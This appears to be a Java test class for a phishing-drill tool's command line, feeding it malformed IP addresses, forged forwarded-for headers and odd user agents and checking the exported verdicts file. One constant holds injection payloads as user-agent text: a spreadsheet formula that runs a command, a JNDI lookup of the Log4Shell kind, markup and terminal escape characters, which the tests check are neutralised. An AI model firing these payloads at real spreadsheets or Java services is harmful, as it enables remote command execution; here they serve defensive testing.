package drillsift.cli;

import static drillsift.cli.BadInput.row;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

/** Rows 52 and 54 to 62: clocks, addresses and agents. */
final class BadConnections {

    private static final String HEADER = "recipient,kind,occurred_at,source_ip,user_agent\n";
    private static final String AGENT =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                    + " Chrome/141.0.0.0 Safari/537.36";
    private static final String LOG =
            "%s - - [06/Oct/2026:14:%02d:00 +0900] \"GET /%s HTTP/1.1\" 200 10 \"-\" \"%s\" \"%s\"\n";

    private BadConnections() {}

    static List<BadInput> rows() {
        return BadInput.all(List.of(addresses(), forwarded(), agents()));
    }

    private static List<BadInput> addresses() {
        return List.of(
                row(
                                "54",
                                "IPv6 in full, with zone and in capitals",
                                c -> visits(c, "2001:0DB8:0000:0000:0000:0000:0000:0007%eth0"))
                        .fine()
                        .and(outcome -> address(outcome, "2001:db8::7")),
                row("55", "IPv4 mapped into IPv6", c -> visits(c, "::ffff:203.0.113.5"))
                        .fine()
                        .and(outcome -> address(outcome, "203.0.113.5")),
                row("58a", "an address with a port", c -> visits(c, "203.0.113.4:555"))
                        .fine()
                        .and(outcome -> address(outcome, "203.0.113.4")),
                row("58b", "IPv6 with a port", c -> visits(c, "[::ffff:203.0.113.4]:443"))
                        .fine()
                        .and(outcome -> address(outcome, "203.0.113.4")),
                row(
                                "59",
                                "octal, short and impossible addresses and a host name",
                                c ->
                                        visits(
                                                c,
                                                "010.1.2.3",
                                                "1.2.3",
                                                "300.1.1.1",
                                                "gw.corp.example"))
                        .look("DS-9551"),
                row("60", "no address and no agent", BadConnections::nothing)
                        .fine("DS-0552", "DS-0553"));
    }

    private static List<BadInput> forwarded() {
        String list = "unknown, _hidden, 203.0.113.6";
        return List.of(
                row("56a", "a list of forwarded addresses, nobody trusted", c -> proxied(c, list))
                        .fine()
                        .and(outcome -> address(outcome, "192.0.2.1")),
                row(
                                "56b",
                                "a list of forwarded addresses, the proxy trusted",
                                c -> proxied(c, list).filters("trusted-proxies: [192.0.2.1]\n"))
                        .fine()
                        .and(outcome -> address(outcome, "203.0.113.6")),
                row(
                                "57",
                                "a forged address on the left",
                                c ->
                                        proxied(c, "203.0.113.6, 198.51.100.9")
                                                .filters("trusted-proxies: [192.0.2.1]\n"))
                        .fine()
                        .and(outcome -> address(outcome, "198.51.100.9")));
    }

    private static List<BadInput> agents() {
        return List.of(
                row("61", "an agent of 64 KB that wants to act everywhere", BadConnections::hostile)
                        .look("DS-9001"),
                row("61b", "an agent that wants to act everywhere", BadConnections::acting)
                        .fine()
                        .and(BadConnections::isHarmless),
                row(
                                "62",
                                "an agent that nobody knows",
                                c -> agent(c, "Gyokuro/9.0 (KaiserOS 44; mango) BrightSail/1.2"))
                        .fine());
    }

    /** A click, the page and a button of person 20 and following, one for each address. */
    private static BadCampaign visits(BadCampaign campaign, String... addresses) throws Exception {
        campaign.add("exports: {verdicts: true}");
        return campaign.row(rows(AGENT, addresses));
    }

    private static String rows(String agent, String... addresses) {
        StringBuilder rows = new StringBuilder(HEADER);
        String quoted = "\"" + agent.replace("\"", "\"\"") + "\"\n";
        for (int i = 0; i < addresses.length; i++) {
            int k = 0;
            for (String kind : List.of("CLICKED", "PAGE_VIEWED", "BUTTON_CLICKED")) {
                rows.append("p%d@corp.example,%s,".formatted(20 + i, kind));
                rows.append("2026-10-06T14:%02d:%02d+09:00,".formatted(20 + i, 19 * k++));
                rows.append(addresses[i]).append(',').append(quoted);
            }
        }
        return rows.toString();
    }

    private static void agent(BadCampaign campaign, String agent) throws Exception {
        campaign.add("exports: {verdicts: true}");
        campaign.row(rows(agent, "203.0.113.20"));
    }

    private static void address(BadOutcome outcome, String expected) throws Exception {
        assertThat(outcome.published("review/verdicts.csv").lines())
                .anyMatch(line -> line.contains("p20@corp.example") && line.contains(expected));
    }

    private static void nothing(BadCampaign campaign) throws Exception {
        campaign.row(
                HEADER
                        + "p20@corp.example,CLICKED,2026-10-06T14:00:00+09:00,-,-\n"
                        + "p21@corp.example,CLICKED,2026-10-06T14:00:00+09:00,,\n");
    }

    private static BadCampaign proxied(BadCampaign campaign, String forwarded) throws Exception {
        campaign.add("exports: {verdicts: true}");
        StringBuilder log = new StringBuilder();
        for (String path : List.of("?rid=tok20x", "page/tok20x", "btn/b1/tok20x")) {
            log.append(LOG.formatted("192.0.2.1", 20 + log.length() / 200, path, AGENT, forwarded));
        }
        return campaign.log(log.toString(), "");
    }

    private static final String ACTING =
            "=cmd|'/c calc'!A0 ${jndi:ldap://192.0.2.1/a} <b>x</b> \u001B[2J\u202Etxt\u2028end";

    private static void hostile(BadCampaign campaign) throws Exception {
        String long64 = rows(ACTING + "x".repeat(64 << 10), "203.0.113.20");
        String plain = rows(AGENT, "203.0.113.21").substring(HEADER.length());
        campaign.row(long64 + plain.replace("p20@", "p21@"));
    }

    private static void acting(BadCampaign campaign) throws Exception {
        agent(campaign, ACTING + "x".repeat(60 << 10));
    }

    private static void isHarmless(BadOutcome outcome) throws Exception {
        String verdicts = outcome.published("review/verdicts.csv");
        assertThat(verdicts).contains("'=cmd|").doesNotContain("\u001B").doesNotContain("\u202E");
        assertThat(verdicts.lines()).allMatch(line -> line.length() < 3_000);
    }
}
